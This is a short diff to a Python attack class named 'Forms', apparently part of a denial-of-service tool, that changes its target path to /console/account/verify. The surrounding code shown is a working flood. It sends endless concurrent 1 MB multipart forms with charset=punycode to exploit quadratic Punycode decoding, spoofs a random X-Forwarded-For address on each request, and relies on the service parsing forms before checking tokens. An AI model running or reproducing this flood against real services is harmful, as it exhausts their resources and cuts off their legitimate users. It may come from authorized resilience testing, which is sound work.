@@ -16,7 +16,7 @@ class Forms(Flood):
     """Python decodes Punycode in a time that grows with the square of the length: for such a form it takes a minute."""
 
     name = "forms"
-    what = f"{_AT_ONCE} forms of 1 MB at once, with charset=punycode, to /account/verify"
+    what = f"{_AT_ONCE} forms of 1 MB at once, with charset=punycode, to /console/account/verify"
 
     def prepare(self, stage: Stage) -> None:
         """Do nothing: this flood needs no account, since the service reads the form before it checks its token."""
@@ -31,7 +31,7 @@ def _forms(answers: Counter[str]) -> Iterator[bytes]:
     body = field + b"a" * _FORM_BYTES + f"\r\n--{_BOUNDARY}--\r\n".encode()
     while True:
         head = (
-            f"POST /account/verify HTTP/1.1\r\nHost: {HOST}\r\nX-Forwarded-For: {random_address()}\r\n"
+            f"POST /console/account/verify HTTP/1.1\r\nHost: {HOST}\r\nX-Forwarded-For: {random_address()}\r\n"
             f"Content-Type: multipart/form-data; charset=punycode; boundary={_BOUNDARY}\r\n"
             f"Content-Length: {len(body)}\r\n\r\n"
         )
